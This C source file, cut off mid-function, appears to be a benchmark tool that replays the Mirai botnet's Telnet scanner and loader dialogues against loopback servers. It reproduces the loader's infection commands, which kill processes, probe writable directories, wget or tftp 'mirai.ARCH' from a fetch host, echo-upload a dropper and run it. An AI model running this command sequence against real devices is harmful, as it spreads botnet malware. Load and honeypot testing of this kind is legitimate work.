/* bench/telnet/loadgen: a Telnet load client that plays Mirai's scanner dialogue (bot/scanner.c)
 * or its loader's dialogue (loader/src/server.c, connection.c) against any Telnet server on
 * loopback, with Mirai's own matching rules, and counts how every session ended.
 *
 * What it keeps of Mirai (bench/telnet/README.md lists each rule and the few differences):
 *  - option negotiation is answered only in the opening burst of IAC commands, as
 *    consume_iacs() does (DO NAWS -> WILL NAWS + 80x24, other DO -> WONT, WILL -> DO, any other
 *    command echoed); options the server sends later stay in the text and are never answered;
 *  - the scanner's 256-byte read buffer (NUL bytes read as 'A', the oldest 64 bytes dropped when
 *    full) and its prompt rules: the last ':' '>' '$' '#' '%' of the buffer ends a prompt ('%'
 *    not for the password prompt), "ogin"/"enter"/"assword" otherwise; its commands are sent
 *    with their trailing NUL ("enable\0" then "\r\n", as Mirai sends its table entries);
 *  - the loader's 8 KiB buffer, its prompt rule (a prompt character at offset 0 does not count),
 *    its user name and password sent before their "\r\n", which follows later (-D), and its
 *    whole state machine: ps (and the kill commands it derives), /proc/mounts, writable
 *    directories, cp /bin/echo, the architecture from the ELF header, the upload method, the
 *    echo upload in 128-byte lines, the run and the clean-up.
 * Each step has a timeout (-T); a session that does not finish is counted as failed, with the
 * step where it stopped and why. Connections go to 127.0.0.0/8 only, from source addresses
 * 127.0.0.1-127.0.0.250 so the ephemeral port range is never the limit; single-threaded epoll.
 *
 * usage: loadgen -p PORT [-h 127.x.y.z] [-m scanner|loader|idle|idle-shell] [-c CONCURRENCY]
 *                [-n SESSIONS] [-t SECONDS] [-T STEP_TIMEOUT_MS] [-G DRAIN_MS] [-D CRLF_DELAY_MS]
 *                [-u USER] [-P PASSWORD] [-i IDLE_CONNECTIONS] [-U echo|auto]
 *                [-w FETCH_HOST:PORT]
 * Output: key=value lines (see print_report). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* Mirai's buffers and limits. */
#define SCAN_BUF 256       /* SCANNER_RDBUF_SIZE */
#define SCAN_DRAIN 64      /* SCANNER_HACK_DRAIN */
#define LOAD_BUF 8192      /* struct connection.rdbuf */
#define LOAD_DRAIN_AT 7168 /* the loader drops the oldest LOAD_DRAIN bytes past this */
#define LOAD_DRAIN 6144
#define ECHO_LINE_BYTES 128 /* BINARY_BYTES_PER_ECHOLINE */
#define DROPPER_BYTES 1536  /* the dropper echoed in 12 lines */
#define WRITEDIR_MAX 31     /* the loader keeps a writable directory shorter than this */
#define PS_LINE_MAX 512     /* bytes of one ps line looked at */
#define MOUNT_LINE_MAX 256  /* the loader's line buffer for /proc/mounts */
/* This client's own limits. */
#define READS_PER_EVENT 64  /* reads of one socket per readiness event */
#define OPENS_PER_TURN 256  /* idle mode: new connections per loop turn (listen backlog) */
#define MAX_LAT (4u << 20)  /* latency samples kept */
#define TIMER_TICK_US 10000 /* timeouts and deferred writes are checked this often */
#define LINE_MAX_OUT 2048   /* longest line the loader sends */

#define PROMPT_CHARS ":>$#%"
#define PASS_PROMPT_CHARS ":>$#" /* the scanner's password prompt does not take '%' */
#define TOKEN_QUERY "/bin/busybox ECCHI"
#define TOKEN_RESPONSE "ECCHI: applet not found"
#define EXEC_QUERY "/bin/busybox IHCCE"
#define EXEC_RESPONSE "IHCCE: applet not found"
#define UPLOAD_PROBE "/bin/busybox wget; /bin/busybox tftp; " TOKEN_QUERY "\r\n"
#define VERIFY_HEX "\\x6b\\x61\\x6d\\x69" /* "kami", written by echo -e */
#define FN_DROPPER "upnp"
#define FN_BINARY "dvrHelper"
#define ID_TAG "telnet" /* the loader's default id_tag */

enum mode { MODE_SCANNER, MODE_LOADER, MODE_IDLE, MODE_IDLE_SHELL };

/* Every step of both dialogues, named after what the client waits for. */
enum step {
	ST_CONNECT,
	ST_IACS,
	ST_LOGIN_PROMPT,
	ST_PASSWORD_PROMPT,
	ST_SHELL_PROMPT, /* the first prompt after the password */
	ST_ENABLE,       /* scanner: the answers to enable, system, shell, sh, the query */
	ST_SYSTEM,
	ST_SHELL,
	ST_SH,
	ST_TOKEN,
	ST_CHECK_LOGIN, /* loader: a prompt after enable/shell/sh */
	ST_VERIFY_LOGIN,
	ST_PS,
	ST_MOUNTS,
	ST_WRITABLE,
	ST_COPY_ECHO,
	ST_DETECT_ARCH,
	ST_ARM_SUBTYPE,
	ST_UPLOAD_METHODS,
	ST_UPLOAD_ECHO,
	ST_UPLOAD_WGET,
	ST_UPLOAD_TFTP,
	ST_RUN_BINARY,
	ST_CLEANUP,
	ST_HELD, /* idle modes: the connection is held open */
	ST_COUNT
};

static const char *const step_names[ST_COUNT] = {
	[ST_CONNECT] = "connect",
	[ST_IACS] = "iacs",
	[ST_LOGIN_PROMPT] = "login_prompt",
	[ST_PASSWORD_PROMPT] = "password_prompt",
	[ST_SHELL_PROMPT] = "shell_prompt",
	[ST_ENABLE] = "enable",
	[ST_SYSTEM] = "system",
	[ST_SHELL] = "shell",
	[ST_SH] = "sh",
	[ST_TOKEN] = "token",
	[ST_CHECK_LOGIN] = "check_login",
	[ST_VERIFY_LOGIN] = "verify_login",
	[ST_PS] = "ps",
	[ST_MOUNTS] = "mounts",
	[ST_WRITABLE] = "writable_dir",
	[ST_COPY_ECHO] = "copy_echo",
	[ST_DETECT_ARCH] = "detect_arch",
	[ST_ARM_SUBTYPE] = "arm_subtype",
	[ST_UPLOAD_METHODS] = "upload_methods",
	[ST_UPLOAD_ECHO] = "upload_echo",
	[ST_UPLOAD_WGET] = "upload_wget",
	[ST_UPLOAD_TFTP] = "upload_tftp",
	[ST_RUN_BINARY] = "run_binary",
	[ST_CLEANUP] = "cleanup",
	[ST_HELD] = "held",
};

/* Why a session failed. */
enum reason {
	R_TIMEOUT,    /* the step did not end within -T */
	R_CLOSED,     /* the server closed or reset the connection */
	R_REFUSED,    /* the connection could not be made */
	R_REJECTED,   /* scanner: "ncorrect" in the answer (Mirai would try other credentials) */
	R_BUFFER,     /* loader: its 8 KiB buffer filled without the awaited marker */
	R_ARCH,       /* loader: no known architecture in /bin/echo's ELF header */
	R_WRITEDIR,   /* loader: the first writable directory was 31 bytes or longer */
	R_WRITE,      /* the server did not take what the client sent */
	R_UNFINISHED, /* still running when the drain time after the phase ran out */
	R_COUNT
};

static const char *const reason_names[R_COUNT] = {
	[R_TIMEOUT] = "timeout",   [R_CLOSED] = "closed",      [R_REFUSED] = "refused",
	[R_REJECTED] = "rejected", [R_BUFFER] = "buffer_full", [R_ARCH] = "arch",
	[R_WRITEDIR] = "writedir", [R_WRITE] = "write",        [R_UNFINISHED] = "unfinished",
};

enum upload { UP_WGET, UP_TFTP, UP_ECHO, UP_COUNT };
static const char *const upload_names[UP_COUNT] = {"wget", "tftp", "echo"};

struct conn {
	int fd; /* -1: slot free */
	enum step step;
	uint64_t step_us;  /* when the step began: its timeout runs from here */
	uint64_t sent_us;  /* when the line the step answers was sent; 0: none */
	uint64_t crlf_due; /* loader: when the deferred "\r\n" goes out; 0: none pending */
	uint8_t *buf;
	size_t pos, cap;
	size_t ps_scan; /* loader: ps output parsed up to here */
	bool has_arch, retry_bin;
	int echo_pos;
	enum upload upload;
	char arch[8];
	char writedir[WRITEDIR_MAX + 1];
};

static const char *const arch_names[] = {"arm", "arm7", "mips", "mpsl", "x86",
					 "spc", "m68k", "ppc",  "sh4",  "?"};
#define N_ARCH (sizeof(arch_names) / sizeof(arch_names[0]))

struct opts {
	enum mode mode;
	struct in_addr host;
	int port;
	int concurrency;
	uint64_t sessions; /* 0: run for `seconds` */
	double seconds;
	uint64_t step_timeout_us, drain_us, crlf_delay_us;
	const char *user, *password;
	long idle;
	bool upload_auto; /* follow Mirai's choice of wget/tftp; default: always echo */
	char fetch_host[64];
	int fetch_port;
};

struct run {
	struct opts o;
	int epfd;
	struct conn *conns;
	int nconns;
	int *free_slots;
	int nfree;
	uint32_t src_rot;
	uint64_t started, completed, failed;
	uint64_t failures[ST_COUNT][R_COUNT];
	uint64_t held, held_lost;
	uint64_t mirai_upload[UP_COUNT], payload_ran, kills, arm_retries;
	uint64_t arch_seen[N_ARCH];
	uint32_t *lat;
	size_t nlat;
	char hex_lines[DROPPER_BYTES / ECHO_LINE_BYTES][ECHO_LINE_BYTES * 4 + 1];
	int nhex;
};

static uint64_t now_us(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000u + (uint64_t)ts.tv_nsec / 1000u;
}

/* ---- Mirai's matching rules ---- */

/* Mirai's util_memsearch: the offset just past the first match, or -1. Its naive restart (after
 * a partial match it does not retry the byte that broke it) is kept: it is how Mirai matches. */
static int mirai_memsearch(const uint8_t *buf, size_t len, const char *needle)
{
	size_t nlen = strlen(needle), matched = 0;
	if (nlen > len)
		return -1;
	for (size_t i = 0; i < len; i++) {
		if (buf[i] == (uint8_t)needle[matched]) {
			if (++matched == nlen)
				return (int)(i + 1);
		} else {
			matched = 0;
		}
	}
	return -1;
}

/* The scanner's prompt rule: the last prompt character, searched down to offset 1; consumes
 * through it. 0: none. */
static int scanner_prompt(const struct conn *c, const char *chars)
{
	for (size_t i = c->pos; i-- > 1;)
		if (c->buf[i] && strchr(chars, c->buf[i]))
			return (int)i + 1;
	return 0;
}

/* The loader's prompt rule: the last prompt character; consumes up to it, not through it, so a
 * prompt character left at offset 0 counts as no prompt. */
static int loader_prompt(const struct conn *c)
{
	for (size_t i = c->pos; i-- > 0;)
		if (c->buf[i] && strchr(PROMPT_CHARS, c->buf[i]))
			return (int)i;
	return 0;
}

/* A marker searched in the whole buffer: the offset past it, or 0. */
static int marker(const struct conn *c, const char *s)
{
	int m = mirai_memsearch(c->buf, c->pos, s);
	return m < 0 ? 0 : m;
}

/* ---- sessions ---- */

static void conn_close(struct run *r, struct conn *c)
{
	/* RST instead of FIN: no TIME_WAIT pile-up at thousands of sessions per second. */
	struct linger lg = {1, 0};
	setsockopt(c->fd, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg));
	close(c->fd);
	c->fd = -1;
	r->free_slots[r->nfree++] = (int)(c - r->conns);
}

static void conn_fail(struct run *r, struct conn *c, enum reason why)
{
	if (c->fd < 0)
		return;
	if (c->step == ST_HELD) {
		r->held--;
		r->held_lost++;
	} else {
		r->failed++;
		r->failures[c->step][why]++;
	}
	conn_close(r, c);
}

static void conn_done(struct run *r, struct conn *c)
{
	r->completed++;
	conn_close(r, c);
}

static void hold(struct run *r, struct conn *c)
{
	c->step = ST_HELD;
	r->held++;
}

/* Moves to the next step; `sent`: the client has just sent the line that step answers. The
 * latency of the step that ends is recorded when it answered a line. */
static void advance(struct run *r, struct conn *c, enum step next, bool sent)
{
	uint64_t now = now_us();
	if (c->sent_us && r->nlat < MAX_LAT)
		r->lat[r->nlat++] = (uint32_t)(now - c->sent_us);
	c->step = next;
	c->step_us = now;
	c->sent_us = sent ? now : 0;
}

static bool send_bytes(struct run *r, struct conn *c, const void *p, size_t n)
{
	if (c->fd < 0)
		return false;
	errno = 0; /* a short write sets none */
	if (write(c->fd, p, n) != (ssize_t)n) {
		conn_fail(r, c, errno == EPIPE || errno == ECONNRESET ? R_CLOSED : R_WRITE);
		return false;
	}
	return true;
}

static bool send_str(struct run *r, struct conn *c, const char *s)
{
	return send_bytes(r, c, s, strlen(s));
}

static bool __attribute__((format(printf, 3, 4)))
send_fmt(struct run *r, struct conn *c, const char *fmt, ...)
{
	char line[LINE_MAX_OUT];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(line, sizeof(line), fmt, ap);
	va_end(ap);
	if (n < 0)
		return false;
	return send_bytes(r, c, line, (size_t)n < sizeof(line) ? (size_t)n : sizeof(line) - 1);
}

/* The loader writes the user name or password now and its "\r\n" from a timer later. */
static bool send_deferred_crlf(struct run *r, struct conn *c, const char *s)
{
	if (!send_str(r, c, s))
		return false;
	if (r->o.crlf_delay_us == 0)
		return send_str(r, c, "\r\n");
	c->crlf_due = now_us() + r->o.crlf_delay_us;
	return true;
}

/* Mirai's consume_iacs: answers the IAC commands at the head of the buffer and nothing after
 * the first byte that is not IAC. A command is answered once its three bytes are there. */
static int consume_iacs(struct run *r, struct conn *c)
{
	static const uint8_t naws[] = {255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240};
	size_t i = 0;
	while (i < c->pos && c->buf[i] == 255) {
		if (i + 1 >= c->pos)
			break;
		if (c->buf[i + 1] == 255) {
			i += 2;
			continue;
		}
		if (i + 2 >= c->pos)
			break;
		uint8_t reply[3] = {255, c->buf[i + 1], c->buf[i + 2]};
		if (reply[1] == 253 && reply[2] == 31) {
			if (!send_bytes(r, c, naws, sizeof(naws)))
				return 0;
		} else {
			/* DO -> WONT, WILL -> DO, any other command sent back as it came. */
			for (int k = 0; k < 3; k++)
				reply[k] = reply[k] == 253 ? 252 : reply[k] == 251 ? 253 : reply[k];
			if (!send_bytes(r, c, reply, 3))
				return 0;
		}
		i += 3;
	}
	return (int)i;
}

/* The first step of both dialogues: once the opening burst is answered, the login prompt. */
static int opening_burst(struct run *r, struct conn *c)
{
	int n = consume_iacs(r, c);
	if (n > 0)
		advance(r, c, ST_LOGIN_PROMPT, false);
	return n;
}

/* Both dialogues' fallback when no prompt character is there: "ogin", then "enter". */
static int login_marker(const struct conn *c)
{
	int n = marker(c, "ogin");
	return n ? n : marker(c, "enter");
}

/* ---- the scanner's dialogue (bot/scanner.c) ---- */

/* What the scanner sends after each prompt once logged in: table entries with their NUL. */
static const struct {
	const char *text;
	size_t len;
	enum step next;
} scan_cmds[] = {
	{"enable", 7, ST_ENABLE},
	{"system", 7, ST_SYSTEM},
	{"shell", 6, ST_SHELL},
	{"sh", 3, ST_SH},
	{"/bin/busybox MIRAI", 19, ST_TOKEN},
};

static int scanner_consume(struct run *r, struct conn *c)
{
	int n, m;
	switch (c->step) {
	case ST_IACS: return opening_burst(r, c);
	case ST_LOGIN_PROMPT:
		n = scanner_prompt(c, PROMPT_CHARS);
		if (!n)
			n = login_marker(c);
		if (!n)
			return 0;
		if (r->o.mode == MODE_IDLE) {
			hold(r, c);
			return n;
		}
		if (send_str(r, c, r->o.user) && send_str(r, c, "\r\n"))
			advance(r, c, ST_PASSWORD_PROMPT, true);
		return n;
	case ST_PASSWORD_PROMPT:
		n = scanner_prompt(c, PASS_PROMPT_CHARS);
		if (!n)
			n = marker(c, "assword");
		if (n && send_str(r, c, r->o.password) && send_str(r, c, "\r\n"))
			advance(r, c, ST_SHELL_PROMPT, true);
		return n;
	case ST_SHELL_PROMPT:
	case ST_ENABLE:
	case ST_SYSTEM:
	case ST_SHELL:
	case ST_SH:
		n = scanner_prompt(c, PROMPT_CHARS);
		if (!n)
			return 0;
		if (c->step == ST_SHELL_PROMPT && r->o.mode == MODE_IDLE_SHELL) {
			hold(r, c);
			return n;
		}
		m = c->step == ST_SHELL_PROMPT ? 0 : (int)(c->step - ST_ENABLE) + 1;
		if (send_bytes(r, c, scan_cmds[m].text, scan_cmds[m].len) && send_str(r, c, "\r\n"))
			advance(r, c, scan_cmds[m].next, true);
		return n;
	case ST_TOKEN:
		if (mirai_memsearch(c->buf, c->pos, "ncorrect") >= 0) {
			conn_fail(r, c, R_REJECTED);
			return 0;
		}
		n = marker(c, "MIRAI: applet not found");
		if (n) {
			advance(r, c, ST_TOKEN, false);
			conn_done(r, c);
		}
		return n;
	default: return 0;
	}
}

/* ---- the loader's dialogue (loader/src/server.c, connection.c) ---- */

static int loader_login(struct run *r, struct conn *c)
{
	int n;
	switch (c->step) {
	case ST_IACS: return opening_burst(r, c);
	case ST_LOGIN_PROMPT:
		n = loader_prompt(c);
		if (!n)
			n = login_marker(c);
		if (n && send_deferred_crlf(r, c, r->o.user))
			advance(r, c, ST_PASSWORD_PROMPT, true);
		return n;
	case ST_PASSWORD_PROMPT:
		n = loader_prompt(c);
		if (!n)
			n = marker(c, "assword");
		if (n && send_deferred_crlf(r, c, r->o.password))
			advance(r, c, ST_SHELL_PROMPT, true);
		return n;
	case ST_SHELL_PROMPT:
		n = loader_prompt(c);
		if (n && send_str(r, c, "enable\r\n") && send_str(r, c, "shell\r\n") &&
		    send_str(r, c, "sh\r\n"))
			advance(r, c, ST_CHECK_LOGIN, true);
		return n;
	case ST_CHECK_LOGIN:
		n = loader_prompt(c);
		if (n && send_str(r, c, TOKEN_QUERY "\r\n"))
			advance(r, c, ST_VERIFY_LOGIN, true);
		return n;
	case ST_VERIFY_LOGIN:
		n = marker(c, TOKEN_RESPONSE);
		if (n && send_str(r, c, "/bin/busybox ps; " TOKEN_QUERY "\r\n")) {
			advance(r, c, ST_PS, true);
			c->ps_scan = 0;
		}
		return n;
	default: return 0;
	}
}

/* One line of ps output, as the loader reads it: the first field is the pid, the process name
 * is the last of fields 3 to 5. The loader kills a second init, and any process above pid 400
 * whose name has digits and no letter. */
static void ps_line(struct run *r, struct conn *c, const uint8_t *p, size_t len)
{
	char line[PS_LINE_MAX];
	if (len >= sizeof(line))
		len = sizeof(line) - 1;
	for (size_t i = 0; i < len; i++)
		line[i] = p[i] ? (char)p[i] : ' '; /* the loader reads NUL as a blank */
	line[len] = '\0';
	const char *field[6] = {0};
	int nf = 0;
	for (char *s = line; *s && nf < 6;) {
		while (*s == ' ' || *s == '\t' || *s == '\r')
			*s++ = '\0';
		if (!*s)
			break;
		field[nf++] = s;
		while (*s && *s != ' ' && *s != '\t' && *s != '\r')
			s++;
	}
	const char *name = nf >= 5 ? field[4] : nf >= 4 ? field[3] : nf >= 3 ? field[2] : NULL;
	if (!field[0] || !name)
		return;
	int pid = atoi(field[0]);
	if (pid != 1 && (strcmp(name, "init") == 0 || strcmp(name, "[init]") == 0)) {
		send_fmt(r, c, "/bin/busybox kill -9 %d\r\n", pid);
		r->kills++;
		return;
	}
	if (pid <= 400)
		return;
	bool digits = false, letters = false;
	for (const char *s = name; *s; s++) {
		digits |= *s >= '0' && *s <= '9';
		letters |= (*s >= 'a' && *s <= 'z') || (*s >= 'A' && *s <= 'Z');
	}
	if (digits && !letters) {
		send_fmt(r, c, "/bin/busybox kill -9 %d\r\n", pid);
		r->kills++;
	}
}

static int loader_ps(struct run *r, struct conn *c)
{
	int off = mirai_memsearch(c->buf, c->pos, TOKEN_RESPONSE);
	size_t limit = off < 0 ? c->pos : (size_t)off;
	for (size_t i = c->ps_scan; i < limit && c->fd >= 0; i++) {
		if (c->buf[i] == '\n') {
			ps_line(r, c, c->buf + c->ps_scan, i - c->ps_scan);
			c->ps_scan = i + 1;
		}
	}
	if (c->fd < 0)
		return 0;
	if (off < 0) {
		if (c->pos > LOAD_DRAIN_AT) {
			memmove(c->buf, c->buf + LOAD_DRAIN, c->pos - LOAD_DRAIN);
			c->pos -= LOAD_DRAIN;
			c->ps_scan = c->ps_scan > LOAD_DRAIN ? c->ps_scan - LOAD_DRAIN : 0;
		}
		return 0;
	}
	if (send_str(r, c, "/bin/busybox cat /proc/mounts; " TOKEN_QUERY "\r\n"))
		advance(r, c, ST_MOUNTS, true);
	return off;
}

/* /proc/mounts: for every line whose fourth field has "rw", the loader writes "kami<dir>" into
 * that directory and reads it back; then the same for /dev, then the token query. Runs of
 * blanks keep their first character, fields are split at spaces; a line of 255 characters
 * ends the reading, as the loader's 256-byte line buffer does. */
static int loader_mounts(struct run *r, struct conn *c)
{
	int off = marker(c, TOKEN_RESPONSE);
	if (!off)
		return 0;
	char line[MOUNT_LINE_MAX];
	size_t lp = 0;
	int blanks = 0;
	for (int i = 0; i < off && c->fd >= 0; i++) {
		uint8_t b = c->buf[i];
		if (lp == sizeof(line) - 1)
			break;
		if (b == '\n') {
			line[lp] = '\0';
			lp = 0;
			char *save = NULL, *path, *opts;
			if (!strtok_r(line, " ", &save) || !(path = strtok_r(NULL, " ", &save)) ||
			    !strtok_r(NULL, " ", &save) || !(opts = strtok_r(NULL, " ", &save)))
				continue;
			size_t pl = strlen(path);
			if (path[pl - 1] == '/')
				path[pl - 1] = '\0';
			if (mirai_memsearch((const uint8_t *)opts, strlen(opts), "rw") >= 0)
				send_fmt(r, c,
					 "/bin/busybox echo -e '" VERIFY_HEX "%s' > %s/.nippon; "
					 "/bin/busybox cat %s/.nippon; /bin/busybox rm "
					 "%s/.nippon\r\n",
					 path, path, path, path);
		} else if (b == ' ' || b == '\t') {
			if (blanks++ == 0)
				line[lp++] = (char)b;
		} else if (b != '\r') {
			blanks = 0;
			line[lp++] = b ? (char)b : ' ';
		}
	}
	if (send_str(r, c,
		     "/bin/busybox echo -e '" VERIFY_HEX "/dev' > /dev/.nippon; /bin/busybox cat "
		     "/dev/.nippon; /bin/busybox rm /dev/.nippon\r\n") &&
	    send_str(r, c, TOKEN_QUERY "\r\n"))
		advance(r, c, ST_WRITABLE, true);
	return off;
}

/* Every "kami<dir>" line read back names a writable directory: the loader removes its own
 * leftovers there and works in the first one. */
static int loader_writable(struct run *r, struct conn *c)
{
	int end = marker(c, TOKEN_RESPONSE);
	if (!end)
		return 0;
	bool found = false;
	size_t at = 0;
	for (;;) {
		int m = mirai_memsearch(c->buf + at, (size_t)end - at, "kami");
		if (m < 0)
			break;
		at += (size_t)m;
		size_t s = at, e;
		while (s < c->pos && c->buf[s] == '\n')
			s++;
		for (e = s; e < c->pos && c->buf[e] != '\n' && c->buf[e] != '\0';)
			e++;
		if (e == s)
			continue;
		size_t raw = e - s, len = c->buf[e - 1] == '\r' ? raw - 1 : raw;
		char dir[LINE_MAX_OUT / 4];
		if (len >= sizeof(dir))
			len = sizeof(dir) - 1;
		memcpy(dir, c->buf + s, len);
		dir[len] = '\0';
		if (!send_fmt(r, c, "rm %s/.t; rm %s/.sh; rm %s/.human\r\n", dir, dir, dir))
			return 0;
		if (!found) {
			if (raw >= WRITEDIR_MAX) {
				conn_fail(r, c, R_WRITEDIR);
				return 0;
			}
			memcpy(c->writedir, dir, len + 1);
			found = true;
		}
	}
	if (send_fmt(r, c, "cd %s/\r\n", c->writedir) &&
	    send_str(r, c,
		     "/bin/busybox cp /bin/echo " FN_BINARY "; >" FN_BINARY
		     "; /bin/busybox chmod 777 "
		     "" FN_BINARY "; " TOKEN_QUERY "\r\n"))
		advance(r, c, ST_COPY_ECHO, true);
	return end;
}

/* The architecture from the ELF header of /bin/echo, as the loader maps e_machine. */
static const char *elf_arch(const uint8_t *h)
{
	unsigned mach = h[5] == 2 ? (unsigned)h[18] << 8 | h[19] : (unsigned)h[19] << 8 | h[18];
	switch (mach) {
	case 40: /* EM_ARM */
	case 183: /* EM_AARCH64 */ return "arm";
	case 8: /* EM_MIPS */
	case 10: /* EM_MIPS_RS3_LE */ return h[5] == 1 ? "mpsl" : "mips";
	case 3:
	case 6:
	case 7:
	case 62: /* 386, 486, 860, x86-64 */ return "x86";
	case 2:
	case 18:
	case 43: /* SPARC, SPARC32PLUS, SPARCV9 */ return "spc";
	case 4:
	case 5: /* 68K, 88K */ return "m68k";
	case 20:
	case 21: /* PPC, PPC64 */ return "ppc";
	case 42: /* SH */ return "sh4";
	default: return NULL;
	}
}

static void count_arch(struct run *r, const char *arch)
{
	size_t i = 0;
	while (i < N_ARCH - 1 && strcmp(arch_names[i], arch) != 0)
		i++;
	r->arch_seen[i]++;
}

static int loader_arch(struct run *r, struct conn *c)
{
	if (!c->has_arch) {
		/* Like the loader, this returns without consuming once the header is read, so the
		 * token is looked for only in what a later read brings. The loader reads the 20
		 * header bytes whether they came or not; this waits for them. */
		int e = mirai_memsearch(c->buf, c->pos, "ELF");
		if (e < 0 || (size_t)e + 16 > c->pos)
			return 0;
		if (e < 4) {
			conn_fail(r, c, R_ARCH);
			return 0;
		}
		const uint8_t *h = c->buf + e - 4;
		c->has_arch = true;
		if (h[5] == 0)
			return 0; /* no byte order: no architecture, found out when the token comes
				   */
		const char *arch = elf_arch(h);
		if (!arch) {
			conn_fail(r, c, R_ARCH);
			return 0;
		}
		snprintf(c->arch, sizeof(c->arch), "%s", arch);
		count_arch(r, arch);
		return 0;
	}
	int off = marker(c, TOKEN_RESPONSE);
	if (!off) {
		if (c->pos > LOAD_DRAIN_AT) {
			memmove(c->buf, c->buf + LOAD_DRAIN, c->pos - LOAD_DRAIN);
			c->pos -= LOAD_DRAIN;
		}
		return 0;
	}
	if (!c->arch[0]) {
		conn_fail(r, c, R_ARCH);
		return 0;
	}
	if (strcmp(c->arch, "arm") == 0) {
		if (send_str(r, c, "cat /proc/cpuinfo; " TOKEN_QUERY "\r\n"))
			advance(r, c, ST_ARM_SUBTYPE, true);
	} else if (send_str(r, c, UPLOAD_PROBE)) {
		advance(r, c, ST_UPLOAD_METHODS, true);
	}
	return off;
}

/* Starts the upload the loader chose (or echo, unless -U auto). */
static void start_upload(struct run *r, struct conn *c, enum upload up)
{
	c->upload = up;
	c->echo_pos = 0;
	switch (up) {
	case UP_WGET:
		if (send_fmt(r, c,
			     "/bin/busybox wget http://%s:%d/bins/mirai.%s -O - > " FN_BINARY
			     "; /bin/busybox chmod 777 " FN_BINARY "; " TOKEN_QUERY "\r\n",
			     r->o.fetch_host, r->o.fetch_port, c->arch))
			advance(r, c, ST_UPLOAD_WGET, true);
		break;
	case UP_TFTP:
		if (send_fmt(r, c,
			     "/bin/busybox tftp -g -l " FN_BINARY
			     " -r mirai.%s %s; /bin/busybox chmod "
			     "777 " FN_BINARY "; " TOKEN_QUERY "\r\n",
			     c->arch, r->o.fetch_host))
			advance(r, c, ST_UPLOAD_TFTP, true);
		break;
	default:
		if (send_str(r, c,
			     "/bin/busybox cp " FN_BINARY " " FN_DROPPER "; > " FN_DROPPER
			     "; /bin/busybox chmod 777 " FN_DROPPER "; " TOKEN_QUERY "\r\n"))
			advance(r, c, ST_UPLOAD_ECHO, true);
		break;
	}
}

static int loader_methods(struct run *r, struct conn *c)
{
	int off = marker(c, TOKEN_RESPONSE);
	if (!off)
		return 0;
	if (c->step == ST_ARM_SUBTYPE) {
		if (mirai_memsearch(c->buf, (size_t)off, "ARMv7") >= 0 ||
		    mirai_memsearch(c->buf, (size_t)off, "ARMv6") >= 0) {
			snprintf(c->arch, sizeof(c->arch), "arm7");
			count_arch(r, "arm7");
		}
		if (send_str(r, c, UPLOAD_PROBE))
			advance(r, c, ST_UPLOAD_METHODS, true);
		return off;
	}
	enum upload up = UP_ECHO;
	if (mirai_memsearch(c->buf, (size_t)off, "wget: applet not found") < 0)
		up = UP_WGET;
	else if (mirai_memsearch(c->buf, (size_t)off, "tftp: applet not found") < 0)
		up = UP_TFTP;
	r->mirai_upload[up]++;
	start_upload(r, c, r->o.upload_auto ? up : UP_ECHO);
	return off;
}

static int loader_upload(struct run *r, struct conn *c)
{
	int off = marker(c, TOKEN_RESPONSE);
	if (!off)
		return 0;
	if (c->step == ST_UPLOAD_TFTP &&
	    (mirai_memsearch(c->buf, (size_t)off, "Permission denied") >= 0 ||
	     mirai_memsearch(c->buf, (size_t)off, "timeout") >= 0 ||
	     mirai_memsearch(c->buf, (size_t)off, "illegal option") >= 0)) {
		start_upload(r, c, UP_ECHO); /* the loader falls back to echo */
		return off;
	}
	if (c->step == ST_UPLOAD_ECHO && c->echo_pos < r->nhex) {
		/* The next line; the loader drops what it read and waits for another read. */
		if (send_fmt(r, c, "echo -ne '%s' %s " FN_DROPPER "; " TOKEN_QUERY "\r\n",
			     r->hex_lines[c->echo_pos], c->echo_pos == 0 ? ">" : ">>"))
			c->echo_pos++;
		if (c->fd >= 0) {
			memmove(c->buf, c->buf + off, c->pos - (size_t)off);
			c->pos -= (size_t)off;
			advance(r, c, ST_UPLOAD_ECHO, true);
		}
		return 0;
	}
	bool ok = c->step == ST_UPLOAD_ECHO
			  ? send_fmt(r, c,
				     "./" FN_DROPPER "; ./" FN_BINARY " " ID_TAG ".%s; " EXEC_QUERY
				     "\r\n",
				     c->arch)
			  : send_fmt(r, c, "./" FN_BINARY " " ID_TAG ".%s; " EXEC_QUERY "\r\n",
				     c->arch);
	if (ok)
		advance(r, c, ST_RUN_BINARY, true);
	return off;
}

static int loader_finish(struct run *r, struct conn *c)
{
	if (c->step == ST_CLEANUP) {
		int off = marker(c, TOKEN_RESPONSE);
		if (off) {
			advance(r, c, ST_CLEANUP, false);
			conn_done(r, c);
		}
		return off;
	}
	int off = marker(c, EXEC_RESPONSE);
	if (!off)
		return 0;
	if (mirai_memsearch(c->buf, (size_t)off, "listening tun0") >= 0) {
		r->payload_ran++;
	} else if (!c->retry_bin && strncmp(c->arch, "arm", 3) == 0) {
		/* The payload did not run: the loader tries the other ARM build once. */
		snprintf(c->arch, sizeof(c->arch), "%s", c->arch[3] == '\0' ? "arm7" : "arm");
		c->retry_bin = true;
		r->arm_retries++;
		if (send_str(r, c, UPLOAD_PROBE))
			advance(r, c, ST_UPLOAD_METHODS, true);
		return off;
	}
	if (send_str(r, c, "rm -rf " FN_DROPPER "; > " FN_BINARY "; " TOKEN_QUERY "\r\n"))
		advance(r, c, ST_CLEANUP, true);
	return off;
}

static int loader_consume(struct run *r, struct conn *c)
{
	switch (c->step) {
	case ST_PS: return loader_ps(r, c);
	case ST_MOUNTS: return loader_mounts(r, c);
	case ST_WRITABLE: return loader_writable(r, c);
	case ST_COPY_ECHO: {
		int off = marker(c, TOKEN_RESPONSE);
		/* "DO NOT COMBINE THESE": two writes. */
		if (off && send_str(r, c, "/bin/busybox cat /bin/echo\r\n") &&
		    send_str(r, c, TOKEN_QUERY "\r\n"))
			advance(r, c, ST_DETECT_ARCH, true);
		return off;
	}
	case ST_DETECT_ARCH: return loader_arch(r, c);
